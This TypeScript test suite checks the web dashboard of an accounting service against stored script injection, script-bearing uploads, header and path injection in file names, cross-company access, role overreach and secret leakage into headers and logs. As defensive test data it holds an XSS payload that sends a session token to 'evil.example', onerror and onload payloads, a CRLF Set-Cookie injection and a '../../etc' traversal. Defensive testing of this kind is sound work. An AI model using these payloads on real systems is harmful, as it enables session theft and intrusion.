// What somebody may put into the books to be run by whoever looks at them, and what may leak on the way: script in
// texts, files that are pages, keys and names in addresses, caches and logs.
import { expect } from 'chai';
import { pino } from 'pino';
import { WEB_POLICY, type WebFiles } from '../../src/http/web.ts';
import { startApi, type Answer, type Api } from '../api.ts';
import { codeFor, openPage, OWN, raw, type Page } from './browser.ts';

const SCRIPT = '<script>fetch("//evil.example/"+localStorage["daicho-session"])</script>';
const IMAGE = '"><img src=x onerror=alert(1)>';
const SVG = `<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)">${SCRIPT}</svg>`;
const HTML = `<!doctype html><title>x</title>${SCRIPT}`;
const base64 = (text: string): string => Buffer.from(text).toString('base64');
const FILES: WebFiles = new Map([
  ['/app', { type: 'text/html; charset=utf-8', bytes: '<!doctype html><title>Daicho</title>' }],
]);

describe('attacks by what the books hold', function attacks() {
  this.timeout(60_000);
  let api: Api;
  let companyId: string;
  let ownerKey: string;
  let page: Page;
  let other: string;
  const lines: string[] = [];

  before(async () => {
    const logger = pino({ level: 'trace' }, { write: (line: string) => void lines.push(line) });
    api = await startApi('web_attacks', { web: () => Promise.resolve(FILES), logger });
    ({ companyId, ownerKey } = await api.newCompany());
    other = (await api.newCompany()).companyId;
    page = await openPage(api, ownerKey);
  });
  after(() => api.close());
  const at = (rest: string): string => `/app/v1/companies/${companyId}${rest}`;
  const post = async (rest: string, body: object): Promise<Record<string, unknown>> => {
    const { status, text, body: made } = await page.call('POST', at(rest), { body });
    expect(status, text).to.be.oneOf([200, 201]);
    return made;
  };
  /** Nothing of an answer is read as a page by any browser. */
  function isInert({ headers, text }: Pick<Answer, 'headers' | 'text'>, name: string): void {
    const type = headers.get('content-type') ?? '';
    expect(type, name).to.not.match(/html|svg|javascript|\/xml(?!.*attachment)/);
    expect(headers.get('x-content-type-options'), name).to.equal('nosniff');
    expect(headers.get('content-security-policy'), name).to.contain("default-src 'none'");
    expect(headers.get('cache-control'), name).to.equal('no-store');
    expect(text, name).to.be.a('string');
  }

  it('script in a memo, a name and a reference comes back as data, under a policy that runs none', async () => {
    const partner = await post('/partners', { code: 'X1', name: SCRIPT.slice(0, 100), type: 'customer' });
    const entry = await post('/journal-entries', {
      effectiveDate: '2026-05-01',
      status: 'posted',
      memo: SCRIPT,
      reference: IMAGE,
      partnerCode: 'X1',
      lines: [
        { side: 'debit', accountCode: '6320', amount: 1_000, memo: IMAGE },
        { side: 'credit', accountCode: '1110', amount: 1_000 },
      ],
    });
    for (const [name, rest] of [
      ['the entry', `/journal-entries/${String(entry['id'])}`],
      ['the list', `/journal-entries?q=${encodeURIComponent('<script>')}`],
      ['the partner', `/partners/${String(partner['id'])}`],
      ['its events', `/events?entityId=${String(entry['id'])}`],
      ['a refusal that says what was sent', `/journal-entries/${encodeURIComponent(SCRIPT)}`],
    ] as const) {
      const answer = await page.call('GET', at(rest));
      isInert(answer, name);
    }
    const read = await page.call('GET', at(`/journal-entries/${String(entry['id'])}`));
    expect(read.body['memo']).to.equal(SCRIPT);
  });

  it('a page, or a picture that runs script, is no document under any name; as a text it is handed over', async () => {
    for (const [fileName, mimeType, bytes] of [
      ['page.html', 'text/html', HTML],
      ['page.htm', 'application/xhtml+xml', HTML],
      ['page.pdf', 'text/html', HTML],
      ['picture.svg', 'image/svg+xml', SVG],
      ['picture.png', 'image/png', SVG],
      ['paper.pdf', 'application/pdf', HTML],
      ['script.js', 'text/javascript', 'alert(1)'],
    ] as const) {
      const { status, body } = await page.call('POST', at('/documents'), {
        body: { fileName, mimeType, contentBase64: base64(bytes), documentType: 'receipt' },
      });
      expect([status, body['code']], fileName).to.deep.equal([400, 'unsupported_file']);
    }
    for (const [fileName, bytes] of [
      ['text.txt', HTML],
      ['data.xml', SVG],
      ['table.csv', SCRIPT],
    ] as const) {
      const made = await post('/documents', { fileName, contentBase64: base64(bytes), documentType: 'receipt' });
      const told = await page.call('GET', at(`/documents/${String(made['id'])}/content`));
      expect(told.status, fileName).to.equal(200);
      expect(told.headers.get('content-disposition'), fileName).to.match(/^attachment;/);
      expect(told.headers.get('x-content-type-options'), fileName).to.equal('nosniff');
      expect(told.headers.get('content-security-policy'), fileName).to.contain("default-src 'none'");
      expect(told.headers.get('cache-control'), fileName).to.equal('no-store');
    }
  });

  it('a name of a file that would end a header, or run, says nothing but a name', async () => {
    for (const fileName of [
      `${IMAGE}.txt`,
      'a\r\nSet-Cookie: x=y.txt',
      'x";filename=evil.html;.txt',
      '../../etc/x.txt',
    ]) {
      const { status, body } = await page.call('POST', at('/documents'), {
        body: { fileName, contentBase64: base64('text'), documentType: 'receipt' },
      });
      if (status !== 201) {
        expect(status, fileName).to.equal(400);
        continue;
      }
      const told = await page.call('GET', at(`/documents/${String(body['id'])}/content`));
      expect(told.headers.get('set-cookie'), fileName).to.equal(null);
      expect(told.headers.get('content-disposition'), fileName).to.match(
        /^attachment; filename="[^"\\/]*"; filename\*=UTF-8''[^"<>;]*$/,
      );
    }
  });

  it('the id of another company is not there, wherever it stands: path, header and input', async () => {
    const foreign = await api.newCompany();
    const entry = await api.call('POST', `/v1/companies/${foreign.companyId}/journal-entries`, {
      key: foreign.ownerKey,
      body: {
        effectiveDate: '2026-05-01',
        lines: [
          { side: 'debit', accountCode: '6320', amount: 1 },
          { side: 'credit', accountCode: '1110', amount: 1 },
        ],
      },
    });
    const id = String(entry.body['id']);
    for (const [path, headers] of [
      [`/app/v1/companies/${other}`, {}],
      [`/app/v1/companies/${other}/dashboard`, {}],
      [`/app/v1/companies/${other}/events/stream`, {}],
      [`/app/v1/companies/${foreign.companyId}/journal-entries/${id}`, {}],
      [at(`/journal-entries/${id}`), {}],
      ['/app/v1/journals', { 'company-id': other }],
    ] as const) {
      const { status, body } = await page.call('GET', path, { headers });
      expect(status, `${path} ${JSON.stringify(body)}`).to.equal(404);
    }
    const approve = await page.call('POST', at(`/journal-entries/${id}/approve`), { body: { draftHash: 'x' } });
    expect(approve.status).to.be.oneOf([400, 404]);
  });

  it('a viewer, and an agent, do by the dashboard what they may do anywhere, and no more', async () => {
    const viewer = await openPage(api, await api.newKey(ownerKey, { role: 'viewer' }));
    const agent = await openPage(api, await api.newKey(ownerKey, { role: 'agent' }));
    const entry = {
      effectiveDate: '2026-05-01',
      status: 'posted',
      lines: [
        { side: 'debit', accountCode: '6320', amount: 1 },
        { side: 'credit', accountCode: '1110', amount: 1 },
      ],
    };
    const sequence = async (): Promise<unknown> =>
      (await page.call('GET', at('/events?limit=1&order=desc'))).body['data'];
    const before = await sequence();
    for (const [who, method, rest, body] of [
      [viewer, 'POST', '/journal-entries', entry],
      [viewer, 'POST', '/partners', { name: 'x', type: 'customer' }],
      [viewer, 'PATCH', '', { name: 'x' }],
      [viewer, 'POST', '/members', { subject: 'x|y', role: 'owner' }],
      [agent, 'POST', '/journal-entries', entry],
      [agent, 'POST', '/members', { subject: 'x|y', role: 'owner' }],
    ] as const) {
      const { status, body: told } = await who.call(method, at(rest), { body });
      expect(status, `${method} ${rest}`).to.equal(403);
      expect(told['code'], `${method} ${rest}`).to.be.oneOf(['insufficient_scope', 'approval_required']);
    }
    for (const who of [viewer, agent]) {
      const made = await who.call('POST', '/app/v1/api-keys', { body: { name: 'mine', role: 'owner' } });
      expect(made.status).to.equal(403);
    }
    expect(await sequence()).to.deep.equal(before);
  });

  it('no key, code, half or name of a person stands in an address, a header that is kept, or the log', async () => {
    const code = await codeFor(api, ownerKey);
    const one = await openPage(api, ownerKey);
    const person = '秘密山 花子';
    const employee = await one.call('POST', at('/partners'), { body: { name: person, type: 'employee' } });
    expect(employee.status, employee.text).to.be.oneOf([200, 201, 400]);
    const answers = [
      await one.call('GET', at('')),
      await one.call('GET', at('/partners')),
      await one.call('GET', at(`/partners?q=${encodeURIComponent(person)}`)),
      await one.call('GET', at('/nothing-like-this')),
      await one.call('GET', '/app/session'),
      await one.call('GET', '/app/sessions'),
      await one.call('POST', '/app/session', { body: { code: 'x' } }),
      await raw(api.origin, 'GET', at('/partners'), { ...OWN, cookie: one.cookie }),
      await one.call('POST', at('/journal-entries'), { body: { memo: person } }),
    ];
    const secrets = [ownerKey, code, one.half, one.cookie.split('=')[1] as string, person];
    for (const { status, headers } of answers) {
      expect(headers.get('cache-control'), String(status)).to.equal('no-store');
      expect(headers.get('referrer-policy')).to.equal('no-referrer');
      for (const [name, value] of headers)
        if (name !== 'set-cookie') for (const secret of secrets) expect(value, name).not.to.contain(secret);
    }
    const log = lines.join('\n');
    expect(log.length, 'something was logged').to.be.above(0);
    for (const secret of secrets) {
      expect(log.includes(secret), secret.slice(0, 8)).to.equal(false);
      expect(log.includes(encodeURIComponent(secret)), secret.slice(0, 8)).to.equal(false);
    }
    // The page itself is the same for everybody, and may be kept.
    const shell = await api.call('GET', '/app/journal');
    expect(shell.headers.get('content-security-policy')).to.equal(WEB_POLICY);
    for (const secret of secrets) expect(shell.text).not.to.contain(secret);
  });
});
